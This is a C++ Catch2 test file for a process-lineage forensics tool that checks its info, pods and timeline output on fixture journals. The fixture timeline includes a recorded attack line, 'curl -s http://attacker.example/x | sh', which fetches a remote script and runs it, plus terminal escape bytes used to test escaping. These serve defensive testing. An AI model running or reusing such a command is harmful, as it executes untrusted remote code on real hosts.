// lineage info, pods and timeline through the binary, on journals written
// by the fixture: what they say, their JSON against schema/*.schema.json,
// grep's exit codes, escaping, and that the journal is never written.

#include <catch2/catch.hpp>

#include <filesystem>
#include <regex>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "escape.h"
#include "fixture_journal.h"
#include "journal_format.h"
#include "test_util.h"

namespace test_triage {

using namespace fixture;
using nlohmann::json;

namespace {

const std::string kPython = "/usr/bin/python3";

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);) out.push_back(line);
    return out;
}

// Row counts as SQLite counts them, read-only, through Python's sqlite3.
int64_t count_rows(const std::string& journal, const std::string& table) {
    RunResult r =
        run_process({kPython, "-c",
                     "import sqlite3, sys; c = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro', uri=True); "
                     "print(c.execute('SELECT count(*) FROM ' + sys.argv[2]).fetchone()[0])",
                     journal, table},
                    "/");
    REQUIRE(r.status == 0);
    return std::stoll(r.out);
}

struct Journals {
    TempDir dir;
    Journals() {
        liveness_fixture().write(dir / "live.db");
        incident_fixture().write(dir / "incident.db");
    }
    RunResult run(std::vector<std::string> args, const EnvEdits& env = {}) const {
        return run_lineage(args, dir.path(), env);
    }
};

}  // namespace

TEST_CASE("info: runs, span, rows, losses, without writing the journal", "[triage][info]") {
    Journals j;
    const std::string before = read_file(j.dir / "live.db");
    RunResult r = j.run({"info", "--journal", "live.db"});
    INFO(r.out << r.err);
    REQUIRE(r.status == 0);
    CHECK(r.err.empty());
    CHECK(r.out.rfind("live.db\n", 0) == 0);
    // The fixture is written by this build, so at the version it writes.
    CHECK(r.out.find("  schema      version " + std::to_string(lineage::kJournalSchemaVersion) + "\n") !=
          std::string::npos);
    CHECK(r.out.find("  nodes       node-1\n") != std::string::npos);
    CHECK(r.out.find("  span        2026-04-22 08:59:10Z to 2026-04-22 09:03:20Z (4m10s)\n") != std::string::npos);
    CHECK(r.out.find("losses (3 events in 1 records)") != std::string::npos);
    CHECK(r.out.find("  ringbuf_full   3 events in 1 records") != std::string::npos);
    CHECK(r.out.find("\u001b[") == std::string::npos);  // not a TTY: no colour
    CHECK(read_file(j.dir / "live.db") == before);
    CHECK(!std::filesystem::exists(j.dir / "live.db-wal"));
    CHECK(!std::filesystem::exists(j.dir / "live.db-journal"));

    RunResult js = j.run({"info", "--journal", "live.db", "--journal", "incident.db", "--format", "json"});
    REQUIRE(js.status == 0);
    write_file(j.dir / "info.json", js.out);
    CHECK(schema_errors("info.schema.json", {j.dir / "info.json"}) == "");
    json doc = json::parse(js.out);
    REQUIRE(doc.at("journals").size() == 2);
    const json& live = doc.at("journals")[0];
    // The rowid ranges are the counts of a journal lineage wrote.
    for (const char* table : {"exec", "fork", "exit", "connect", "loss", "memberships", "snapshot", "pods"}) {
        INFO(table);
        CHECK(live.at("rows").at(table) == count_rows(j.dir / "live.db", table));
    }
    CHECK(live.at("rows").at("exec") == 63);
    CHECK(live.at("runs").size() == 1);
    CHECK(live.at("runs")[0].at("stopped") == true);
    CHECK(live.at("pods") == 1);
    CHECK(live.at("gaps").empty());
    CHECK(live.at("from") == "2026-04-22T08:59:10.000000000Z");
}

namespace {

// A pod "shop/api-0" whose python3 (PID 600) listens on 0.0.0.0:8000 and
// on [::]:8443 a second later, and connects to 10.0.0.9:5432 at the first
// listen's instant.
void write_listening_pod(const std::filesystem::path& path) {
    FixtureJournal a;
    Proc p = a.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    const std::string uid = "7e3d2c1b-0a9f-4e8d-9c7b-6a5f4e3d2c1b";
    a.pod(uid, "api-0", "shop");
    Proc server = FixtureJournal::proc(600, at(1001));
    a.fork(p, server, at(1001));
    a.exec(server, "/usr/bin/python3", {"python3", "-m", "http.server"}, at(1001, 1'000'000),
           pod_cgroup(uid, std::string(64, 'a')), "api-0");
    a.listen(server, "0.0.0.0", 8000, at(1002));
    a.listen(server, "::", 8443, at(1003), 6);
    a.connect(server, "10.0.0.9", 5432, at(1002));
    a.write(path);
}

}  // namespace

TEST_CASE("pods counts the listens of its processes, in text and JSON", "[triage][pods]") {
    TempDir dir;
    write_listening_pod(dir / "listens.db");
    RunResult js = run_lineage({"pods", "--journal", "listens.db", "--format", "json"}, dir.path());
    INFO(js.out << js.err);
    REQUIRE(js.status == 0);
    write_file(dir / "pods.json", js.out);
    CHECK(schema_errors("pods.schema.json", {dir / "pods.json"}) == "");
    const json pod = json::parse(js.out).at("pods").at(0);
    CHECK(pod.at("name") == "api-0");
    CHECK(pod.at("connects") == 1);
    CHECK(pod.at("listens") == 2);
    RunResult text = run_lineage({"pods", "--journal", "listens.db"}, dir.path());
    REQUIRE(text.status == 0);
    const auto lines = lines_of(text.out);
    REQUIRE(lines.size() == 2);
    const size_t at_listens = lines[0].find("LISTENS");
    REQUIRE(at_listens != std::string::npos);
    // Right-aligned under its header: the count ends where "LISTENS" does.
    CHECK(lines[1].substr(at_listens, 7) == "      2");
}

TEST_CASE("timeline shows listens, in text and JSON lines", "[triage][timeline]") {
    TempDir dir;
    write_listening_pod(dir / "listens.db");
    RunResult text = run_lineage({"timeline", "--journal", "listens.db", "--pod", "shop/api-0"}, dir.path());
    INFO(text.out << text.err);
    REQUIRE(text.status == 0);
    const auto lines = lines_of(text.out);
    auto line_of = [&](const std::string& what) {
        for (size_t i = 0; i < lines.size(); ++i) {
            if (lines[i].size() > 24 && lines[i].substr(24) == what) return static_cast<int>(i);
        }
        return -1;
    };
    const int connect = line_of("  connect      600  python3 → 10.0.0.9:5432");
    const int v4 = line_of("  listen       600  python3 listens on 0.0.0.0:8000");
    const int v6 = line_of("  listen       600  python3 listens on [::]:8443");
    REQUIRE(connect >= 0);
    REQUIRE(v4 >= 0);
    REQUIRE(v6 >= 0);
    // At one instant a connect comes before a listen; a second later, the next listen.
    CHECK(lines[connect].substr(0, 24) == lines[v4].substr(0, 24));
    CHECK(v4 == connect + 1);
    CHECK(v6 == v4 + 1);
    CHECK(lines[v4].substr(0, 24) < lines[v6].substr(0, 24));

    RunResult jl =
        run_lineage({"timeline", "--journal", "listens.db", "--pod", "shop/api-0", "--format", "jsonl"}, dir.path());
    REQUIRE(jl.status == 0);
    std::vector<std::string> files;
    std::vector<json> listens;
    for (const auto& line : lines_of(jl.out)) {
        json obj = json::parse(line);
        if (obj.at("event") != "listen") continue;
        listens.push_back(obj);
        files.push_back(dir / ("listen" + std::to_string(files.size()) + ".json"));
        write_file(files.back(), line);
    }
    REQUIRE(listens.size() == 2);
    CHECK(schema_errors("timeline.schema.json", files) == "");
    CHECK(listens[0].at("pid") == 600);
    CHECK(listens[0].at("family") == "ipv4");
    CHECK(listens[0].at("addr") == "0.0.0.0");
    CHECK(listens[0].at("port") == 8000);
    CHECK(listens[1].at("family") == "ipv6");
    CHECK(listens[1].at("addr") == "::");
    CHECK(listens[1].at("port") == 8443);
    CHECK(listens[1].at("pod").at("name") == "api-0");
}

TEST_CASE("info: a killed run, and errors", "[triage][info]") {
    TempDir dir;
    // Two runs of one boot a minute apart; the first killed.
    {
        RunOptions first;
        first.clean_stop = false;
        first.stopped_ns = at(1010);
        FixtureJournal a(first);
        Proc p = a.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
        Proc c = FixtureJournal::proc(500, at(1001));
        a.fork(p, c, at(1001));
        a.exec(c, "/bin/true", {"true"}, at(1001, 1'000'000));
        a.write(dir / "killed.db");
    }
    RunResult r = run_lineage({"info", "--journal", "killed.db", "--format", "json"}, dir.path());
    INFO(r.out << r.err);
    REQUIRE(r.status == 0);
    json doc = json::parse(r.out);
    const json& run = doc.at("journals")[0].at("runs")[0];
    CHECK(run.at("stopped") == false);
    CHECK(run.at("stop_reason").is_null());
    CHECK(run.at("last_batch").is_number());

    SECTION("a missing journal: one line naming it, exit 2") {
        RunResult m = run_lineage({"info", "--journal", "nope.db"}, dir.path());
        CHECK(m.status == 2);
        CHECK(m.out.empty());
        CHECK(lines_of(m.err).size() == 1);
        CHECK(m.err.find("nope.db") != std::string::npos);
    }
    SECTION("not a journal") {
        write_file(dir / "text.db", "hello, not SQLite at all, but long enough to have a header of sorts\n");
        RunResult m = run_lineage({"info", "--journal", "text.db"}, dir.path());
        CHECK(m.status == 2);
        CHECK(m.err.find("text.db") != std::string::npos);
    }
}

TEST_CASE("timeline: a pod's events in time order, markers, exit codes", "[triage][timeline]") {
    Journals j;
    const std::string before = read_file(j.dir / "live.db");
    RunResult r = j.run({"timeline", "--journal", "live.db", "--pod", kLivenessNamespace + "/" + kLivenessPodName,
                         "--since", "2026-04-22T09:02:20Z", "--until", "2026-04-22T09:02:30Z"});
    INFO(r.out << r.err);
    REQUIRE(r.status == 0);
    const auto lines = lines_of(r.out);
    // Times never go back.
    for (size_t i = 1; i < lines.size(); ++i) CHECK(lines[i - 1].substr(0, 24) <= lines[i].substr(0, 24));
    CHECK(r.out.find("2026-04-22T09:02:22.501Z  exec       30600  sh -c \"curl -s http://attacker.example/x | sh\"   "
                     "parent 30100 sh\n") != std::string::npos);
    CHECK(r.out.find("2026-04-22T09:02:22.750Z  connect    30602  curl → 203.0.113.9:443\n") != std::string::npos);
    CHECK(r.out.find("2026-04-22T09:02:22.600Z  fork       30601  [fork of sh]   parent 30600 sh\n") !=
          std::string::npos);
    CHECK(r.out.find("  exit       30602  curl exit 0\n") != std::string::npos);
    // The probe of 09:02:20 and its sleep.
    CHECK(r.out.find("2026-04-22T09:02:20.021Z  exec       30129  sh -c \"test -f /tmp/healthy\"") !=
          std::string::npos);
    CHECK(read_file(j.dir / "live.db") == before);

    SECTION("the loss is a line of its own") {
        RunResult l = j.run({"timeline", "--journal", "live.db", "--pod", kLivenessPodName, "--since",
                             "2026-04-22T09:01:55Z", "--until", "2026-04-22T09:02:05Z"});
        CHECK(l.out.find("2026-04-22T09:02:00.000Z  loss           -  ") != std::string::npos);
        CHECK(l.err.find("lineage: warning: ") != std::string::npos);
    }
    SECTION("--relative: offsets from the window's start") {
        RunResult rel = j.run({"timeline", "--journal", "live.db", "--pod", kLivenessPodName, "--since",
                               "2026-04-22T09:02:20Z", "--until", "2026-04-22T09:02:30Z", "--relative"});
        CHECK(rel.out.find("+2.750s  connect    30602  curl → 203.0.113.9:443\n") != std::string::npos);
    }
    SECTION("jsonl: one valid object a line, against the schema") {
        RunResult jl = j.run({"timeline", "--journal", "live.db", "--pod", kLivenessPodName, "--format", "jsonl"});
        REQUIRE(jl.status == 0);
        std::vector<std::string> files;
        size_t n = 0;
        for (const auto& line : lines_of(jl.out)) {
            json obj = json::parse(line);
            CHECK(obj.contains("time"));
            // A sample of each kind goes to the validator.
            if (n++ % 7 == 0 || obj.at("event") != "exec") {
                files.push_back(j.dir / ("line" + std::to_string(n) + ".json"));
                write_file(files.back(), line);
            }
        }
        CHECK(n > 100);
        CHECK(schema_errors("timeline.schema.json", files) == "");
        CHECK(jl.out.find("\"daddr\":\"203.0.113.9\"") != std::string::npos);
    }
    SECTION("grep's exit codes: 1 nothing matched, 2 an error") {
        RunResult none = j.run({"timeline", "--journal", "live.db", "--pod", "no-such-pod"});
        CHECK(none.status == 1);
        // Only the journal's markers: no process matched.
        CHECK(none.out.find("  exec ") == std::string::npos);
        RunResult bad = j.run({"timeline", "--journal", "live.db", "--since", "yesterday-ish"});
        CHECK(bad.status == 2);
        CHECK(bad.err.find("--since") != std::string::npos);
        RunResult fmt = j.run({"timeline", "--journal", "live.db", "--format", "xml"});
        CHECK(fmt.status == 2);
    }
}

TEST_CASE("timeline: attacker bytes are escaped in text and valid in JSON", "[triage][timeline]") {
    TempDir dir;
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc evil = FixtureJournal::proc(666, at(1001));
    fx.fork(init, evil, at(1001));
    ExecOpts opts;
    opts.raw_argv = std::string("sh\0-c\0echo \x1b[31mred\x07\xff\n", 22);
    fx.exec(evil, "/bin/sh", {}, at(1001, 1'000'000), opts);
    fx.write(dir / "evil.db");
    RunResult t = run_lineage({"timeline", "--journal", "evil.db", "--pid", "666"}, dir.path());
    INFO(t.out);
    REQUIRE(t.status == 0);
    CHECK(t.out.find('\x1b') == std::string::npos);
    CHECK(t.out.find('\x07') == std::string::npos);
    CHECK(lineage::is_valid_utf8(t.out));
    RunResult jl = run_lineage({"timeline", "--journal", "evil.db", "--pid", "666", "--format", "jsonl"}, dir.path());
    for (const auto& line : lines_of(jl.out)) CHECK_NOTHROW(json::parse(line));
}

TEST_CASE("pods: the pods, their counts, filters, exit codes", "[triage][pods]") {
    Journals j;
    const std::string before = read_file(j.dir / "live.db");
    RunResult r = j.run({"pods", "--journal", "live.db", "--journal", "incident.db"});
    INFO(r.out << r.err);
    REQUIRE(r.status == 0);
    const auto lines = lines_of(r.out);
    REQUIRE(lines.size() == 3);
    CHECK(lines[0].rfind("POD ", 0) == 0);
    // Aligned: every column starts where the header's does.
    const size_t uid_at = lines[0].find("UID");
    for (const auto& l : lines) CHECK(l.find("  ", uid_at - 2) == uid_at - 2);
    CHECK(lines[1].rfind("payments/probe-demo-7b8c9-k4m2z  " + kLivenessPodUid, 0) == 0);
    CHECK(lines[1].find("no: loss or gap") != std::string::npos);
    CHECK(lines[2].rfind("production/my-app-6d4f9-xk2p1", 0) == 0);
    CHECK(lines[2].find("running") != std::string::npos);
    CHECK(read_file(j.dir / "live.db") == before);

    RunResult js = j.run({"pods", "--journal", "live.db", "--journal", "incident.db", "--format", "json"});
    REQUIRE(js.status == 0);
    write_file(j.dir / "pods.json", js.out);
    CHECK(schema_errors("pods.schema.json", {j.dir / "pods.json"}) == "");
    json doc = json::parse(js.out);
    REQUIRE(doc.at("pods").size() == 2);
    const json& live = doc.at("pods")[0];
    CHECK(live.at("name") == kLivenessPodName);
    CHECK(live.at("namespace") == kLivenessNamespace);
    CHECK(live.at("processes") == 63);  // loop, 40, batch 17, attack 3, session 2
    CHECK(live.at("execs") == 63);
    CHECK(live.at("connects") == 1);
    CHECK(live.at("incomplete") == true);
    CHECK(live.at("running") == true);  // the loop never exits
    CHECK(live.at("first_seen") == "2026-04-22T08:59:59.910000000Z");
    CHECK(live.at("nodes") == json::array({"node-1"}));
    // The two journals are of one boot: the loss of live.db overlaps my-app too.
    CHECK(doc.at("pods")[1].at("incomplete") == true);
    CHECK(doc.at("pods")[1].at("connects") == 2);
    json alone = json::parse(j.run({"pods", "--journal", "incident.db", "--format", "json"}).out);
    CHECK(alone.at("pods")[0].at("incomplete") == false);

    SECTION("--namespace, a glob, and a window") {
        CHECK(
            lines_of(j.run({"pods", "--journal", "live.db", "--journal", "incident.db", "--namespace", "payments"}).out)
                .size() == 2);
        RunResult g = j.run({"pods", "--journal", "live.db", "--journal", "incident.db", "production/*"});
        CHECK(g.status == 0);
        CHECK(lines_of(g.out).size() == 2);
        CHECK(g.out.find("my-app") != std::string::npos);
        RunResult g2 = j.run({"pods", "--journal", "live.db", "--journal", "incident.db", "probe-*"});
        CHECK(g2.out.find("probe-demo") != std::string::npos);
        CHECK(g2.out.find("my-app") == std::string::npos);
        RunResult none = j.run({"pods", "--journal", "live.db", "--until", "2026-04-22T08:00:00Z"});
        CHECK(none.status == 1);
        RunResult late = j.run({"pods", "--journal", "live.db", "--since", "2026-04-22T09:10:00Z"});
        CHECK(late.status == 1);
    }
    SECTION("colour only when asked, and never with NO_COLOR") {
        RunResult c = j.run({"pods", "--journal", "live.db", "--color", "always"});
        CHECK(c.out.find("\x1b[1m") != std::string::npos);
        RunResult nc = j.run({"pods", "--journal", "live.db", "--color", "always"}, {{"NO_COLOR", "1"}});
        CHECK(nc.out.find('\x1b') == std::string::npos);
    }
    SECTION("errors: exit 2, one line") {
        RunResult m = j.run({"pods", "--journal", "missing.db"});
        CHECK(m.status == 2);
        CHECK(lines_of(m.err).size() == 1);
    }
}

}  // namespace test_triage
